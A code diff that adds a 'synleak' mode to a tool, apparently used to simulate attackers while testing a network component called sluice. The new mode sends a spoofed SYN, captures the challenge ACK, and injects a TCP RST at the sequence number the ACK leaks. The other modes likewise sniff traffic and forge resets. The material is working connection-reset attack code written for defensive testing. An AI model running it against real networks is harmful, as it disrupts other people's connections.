@@ -14,6 +14,10 @@ from afar reaches sluice through the same last hop as the real host's: what slui
       The on-path attacker: sniffs IFACE for segments from port SPORT to address DST, and once that connection has
       been quiet for QUIET seconds sends one RST at its sender's next sequence (the sniffed seq + length). Its first
       line ({"listening": IFACE}) says it sniffs.
+  tcp_spoofer.py synleak IFACE DST_MAC TUPLE
+      The attacker on a LAN beside sluice, with a MAC of its own: sends one SYN of TUPLE's connection, and if a
+      challenge ACK comes back to its MAC, a RST at the sequence that ACK gives away. Prints {"challenge": [seq, ack]}
+      (or null) and {"rst": SEQ} when it sent one.
   tcp_spoofer.py near IFACE DST_MAC SPORT DST STOPFILE
       What a blind attacker's lucky guesses look like, in bulk: sniffing as `exact` does, it sends a RST one below the
       sender's next sequence (in the window, never exact) every few milliseconds until STOPFILE exists.
@@ -159,12 +163,38 @@ def near(iface, dst_mac, sport, dst, stopfile):
     print(json.dumps({"rst": sent}))
 
 
+def synleak(iface, dst_mac, tuple_text):
+    attacker_mac = "02:66:00:00:00:01"
+    s = link(iface)
+    s.settimeout(0.1)
+    s.send(Segment(attacker_mac, dst_mac, tuple_text, "S").with_numbers(random.getrandbits(32), 0))
+    src, dst = (address.split(":") for address in tuple_text.split(">"))
+    challenge, deadline = None, time.monotonic() + 3
+    while challenge is None and time.monotonic() < deadline:
+        try:
+            frame = s.recv(65536)
+        except socket.timeout:
+            continue
+        if len(frame) < 54 or frame[0:6] != bytes.fromhex(attacker_mac.replace(":", "")) or frame[23] != 6:
+            continue
+        tcp = 14 + (frame[14] & 0x0F) * 4
+        if (socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])) == (dst[0], src[0]) and \
+                struct.unpack_from("!HH", frame, tcp) == (int(dst[1]), int(src[1])):
+            challenge = struct.unpack_from("!II", frame, tcp + 4)
+    print(json.dumps({"challenge": challenge}), flush=True)
+    if challenge:
+        s.send(Segment(attacker_mac, dst_mac, tuple_text, "R").with_numbers(challenge[1], 0))
+        print(json.dumps({"rst": challenge[1]}))
+
+
 def main():
     mode, iface, dst_mac = sys.argv[1:4]
     if mode == "blind":
         blind(iface, dst_mac)
     elif mode == "exact":
         exact(iface, dst_mac, int(sys.argv[4]), sys.argv[5], float(sys.argv[6]))
+    elif mode == "synleak":
+        synleak(iface, dst_mac, sys.argv[4])
     elif mode == "near":
         near(iface, dst_mac, int(sys.argv[4]), sys.argv[5], sys.argv[6])
     else:
